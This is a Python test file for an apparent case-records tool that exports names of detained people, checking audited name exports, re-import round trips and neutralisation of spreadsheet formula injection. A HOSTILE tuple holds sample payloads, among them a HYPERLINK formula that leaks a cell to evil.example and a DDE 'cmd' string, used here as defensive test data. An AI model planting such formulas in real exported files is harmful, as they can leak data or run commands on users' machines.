from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from sqlalchemy import select

from refwatch.domain.caserecord import CASE_COLUMNS
from refwatch.domain.formulas import neutralise
from refwatch.intake.export import export
from refwatch.intake.importer import import_file
from refwatch.store.crypto import FieldCipher
from refwatch.store.keys import Secret
from refwatch.store.schema import AuditEntry
from refwatch.store.workspace import Workspace
from tests.conftest import WorkspaceFactory, write_csv


def _export(
    workspace: Workspace, kind: str, fmt: str = "csv", cipher: FieldCipher | None = None
) -> str:
    buffer = io.StringIO()
    export(workspace, kind, fmt, buffer, cipher=cipher, actor="tester")
    return buffer.getvalue()


def test_mentions_without_names_carry_source_record_and_person_but_no_name(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher, sample_rows: list[dict[str, str]]
) -> None:
    import_file(workspace, cipher, write_csv(tmp_path / "l.csv", sample_rows))
    text = _export(workspace, "mentions")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 3
    assert {"source", "record_id", "person_id", "match_probability"} <= set(rows[0])
    assert "name_latin" not in rows[0] and "notes" not in rows[0]
    for secret_text in ("Gim Songkook", "김송국", "canary-note-Zq81", "박영희"):
        assert secret_text not in text
    assert {r["person_id"] for r in rows} == {"P-000001", "P-000002", "P-000003"}


def test_names_are_exported_only_when_asked_and_the_read_is_audited(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher, sample_rows: list[dict[str, str]]
) -> None:
    import_file(workspace, cipher, write_csv(tmp_path / "l.csv", sample_rows))
    text = _export(workspace, "mentions", "jsonl", cipher)
    records = [json.loads(line) for line in text.splitlines()]
    assert {r["name_latin"] for r in records} >= {"Gim Songkook", "Ri Myong-hui"}
    with workspace.read() as conn:
        actions = conn.execute(select(AuditEntry.__table__.c.action)).scalars().all()
    assert actions[-1] == "export.names"
    assert workspace.verify_audit().ok


def test_a_names_export_reimports_into_another_workspace_unchanged(
    tmp_path: Path,
    make_workspace: WorkspaceFactory,
    secret: Secret,
    sample_rows: list[dict[str, str]],
) -> None:
    first = make_workspace("first")
    first_cipher = FieldCipher(first.unlock(secret))
    import_file(first, first_cipher, write_csv(tmp_path / "l.csv", sample_rows))
    exported = _export(first, "mentions", "csv", first_cipher)
    case_list = tmp_path / "roundtrip.csv"
    reader = csv.DictReader(io.StringIO(exported))
    write_csv(case_list, [{c: r[c] for c in CASE_COLUMNS} for r in reader])

    second = make_workspace("second")
    second_cipher = FieldCipher(second.unlock(secret))
    assert import_file(second, second_cipher, case_list).new == 3

    def comparable(text: str) -> list[dict[str, str]]:
        rows = [{c: r[c] for c in CASE_COLUMNS} for r in csv.DictReader(io.StringIO(text))]
        return sorted(rows, key=lambda r: (r["source"], r["record_id"], r["name_hangul"]))

    assert comparable(_export(second, "mentions", "csv", second_cipher)) == comparable(exported)
    original = sorted(
        ({c: r[c] for c in CASE_COLUMNS} for r in sample_rows),
        key=lambda r: (r["source"], r["record_id"], r["name_hangul"]),
    )
    assert comparable(exported) == original


def test_persons_and_events_exports_name_no_one(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher, sample_rows: list[dict[str, str]]
) -> None:
    import_file(workspace, cipher, write_csv(tmp_path / "l.csv", sample_rows))
    persons = list(csv.DictReader(io.StringIO(_export(workspace, "persons"))))
    events = [json.loads(x) for x in _export(workspace, "events", "jsonl").splitlines()]
    assert len(persons) == 3 and len(events) == 7
    returned = next(e for e in events if e["event_type"] == "return")
    assert returned["esf_code"] == "380101" and returned["date"] == "2017-08"
    older = next(p for p in persons if p["flags"] == "older")
    assert older["sex"] == "F" and older["sources"] == "1"


def test_spreadsheet_formulas_are_neutralised_in_csv_exports() -> None:
    assert neutralise('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert neutralise("+1+1") == "'+1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("-cmd") == "'-cmd"
    assert neutralise("-5") == "-5"
    assert neutralise("2017-07") == "2017-07"


HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+1+1",
    "＝1+1",
)
_FORMULA = re.compile("^[=+\\-@\t\r\x00\uff1d\uff0b\uff0d\uff20]")
_NEGATIVE = re.compile(r"^-[0-9]+(\.[0-9]+)?$")


def test_hostile_text_in_every_csv_export_is_defused_and_negative_numbers_stay_numbers(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    hostile = [
        {
            **{c: "" for c in CASE_COLUMNS},
            "source": payload,
            "source_type": "ngo_list",
            "reported_on": "2017-08-16",
            "record_id": payload if n else "-12",
            "name_latin": payload,
            "origin": payload,
            "apprehended_on": "2017-07-13",
            "apprehended_at": payload,
            "held_at": payload,
            "group": payload,
            "notes": payload,
            "status": "detained",
        }
        for n, payload in enumerate(HOSTILE)
    ]
    import_file(workspace, cipher, write_csv(tmp_path / "hostile.csv", hostile))
    texts = {
        "mentions": _export(workspace, "mentions"),
        "mentions with names": _export(workspace, "mentions", "csv", cipher),
        "persons": _export(workspace, "persons"),
        "events": _export(workspace, "events"),
    }
    for kind, text in texts.items():
        cells = [cell for record in csv.reader(io.StringIO(text)) for cell in record]
        unsafe = [c for c in cells if _FORMULA.match(c) and not _NEGATIVE.match(c)]
        assert unsafe == [], kind
    mentions = list(csv.DictReader(io.StringIO(texts["mentions with names"])))
    assert {m["source"] for m in mentions} == {"'" + p for p in HOSTILE}
    for column in ("name_latin", "origin", "apprehended_at", "held_at", "group", "notes"):
        assert {m[column] for m in mentions} == {"'" + p for p in HOSTILE}, column
    # A record id that is a plain negative number is written as it is, not as text.
    assert "-12" in {m["record_id"] for m in mentions}
    events = list(csv.DictReader(io.StringIO(texts["events"])))
    assert "-12" in {e["record_id"] for e in events}
    assert {e["place"] for e in events if e["place"]} <= {"'" + p for p in HOSTILE}
    persons = list(csv.DictReader(io.StringIO(texts["persons"])))
    assert {p["source_names"] for p in persons} <= {"'" + p for p in HOSTILE}
    # JSON Lines is no spreadsheet format: the values come out exactly as given.
    jsonl = [json.loads(x) for x in _export(workspace, "mentions", "jsonl").splitlines()]
    assert {m["source"] for m in jsonl} == set(HOSTILE)
